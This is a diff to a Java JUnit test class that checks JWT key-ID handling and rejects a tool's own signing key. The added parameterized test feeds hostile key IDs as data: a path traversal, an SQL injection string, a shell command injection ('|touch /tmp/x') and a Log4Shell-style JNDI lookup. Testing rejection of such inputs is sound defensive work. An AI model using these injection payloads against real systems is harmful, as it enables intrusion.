@@ -22,9 +22,11 @@ import java.time.Duration;
 import java.time.Instant;
 import java.util.Base64;
 import java.util.Date;
+import java.util.List;
 import java.util.Set;
 import java.util.UUID;
 import java.util.function.UnaryOperator;
+import org.hikyaku.council.CouncilEntry;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
@@ -113,6 +115,37 @@ class AccessTokensTest {
     void anotherOrNoKeyIdIsRefused() throws Exception {
         assertFalse(lets(header(h -> h.keyID("another"))));
         assertFalse(lets(header(h -> h.keyID(null))));
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "../../../../dev/null",
+                "/dev/null",
+                "x' UNION SELECT 'key' --",
+                "|touch /tmp/x",
+                "https://elsewhere.example/keys",
+                "${jndi:ldap://elsewhere.example/x}",
+                ""
+            })
+    void aKeyIdIsComparedAndNothingElse(String kid) throws Exception {
+        assertFalse(lets(header(h -> h.keyID(kid))));
+        // With an empty file, or an empty answer, for a key.
+        assertFalse(lets(signed(
+                h -> new JWSHeader.Builder(JWSAlgorithm.HS256)
+                        .type(h.getType())
+                        .keyID(kid)
+                        .build(),
+                c -> c,
+                new MACSigner(new byte[32]))));
+    }
+
+    @Test
+    void aToolsOwnKeySignsNoAccessToken() throws Exception {
+        var own = new ECKeyGenerator(Curve.P_256).keyID("own").generate();
+        fixture.apply(new CouncilEntry.ToolKeysSet(
+                fixture.tool.id(), List.of(PublicKeys.read(own.toPublicJWK().toJSONString()))));
+        assertFalse(lets(signed(h -> new JWSHeader.Builder(h).keyID("own").build(), c -> c, new ECDSASigner(own))));
     }
 
     @Test
